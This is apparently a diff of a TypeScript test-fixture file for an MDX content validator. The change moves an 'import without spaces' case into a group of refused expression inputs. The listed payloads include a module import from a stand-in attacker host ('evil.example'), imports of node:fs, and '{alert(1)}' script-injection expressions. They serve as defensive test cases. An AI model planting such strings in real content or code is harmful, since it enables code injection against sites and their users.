@@ -6,7 +6,6 @@ export const codePayloads: readonly Payload[] = [
     'import of a module': `import x from 'https://evil.example/x.js'`,
     'import for its effect': `import 'node:fs'`,
     'import of everything': `import * as fs from "node:fs"`,
-    'import without spaces': `import{x}from'y'`,
     'import after empty lines': `\n\n\nimport x from 'y'`,
     'import after a heading': `## Rubrik\n\nimport x from 'y'`,
     'import with a line of text below': `import x from 'y'\nOch så vidare.`,
@@ -22,6 +21,7 @@ export const codePayloads: readonly Payload[] = [
   }),
   ...refused('body', 'mdx-expression', {
     'expression alone': '{alert(1)}',
+    'import without spaces, which is text with an expression': `import{x}from'y'`,
     'expression in a sentence': 'Hej {name} där.',
     'expression over lines': '{\nalert(1)\n}',
     'empty expression': '{}',
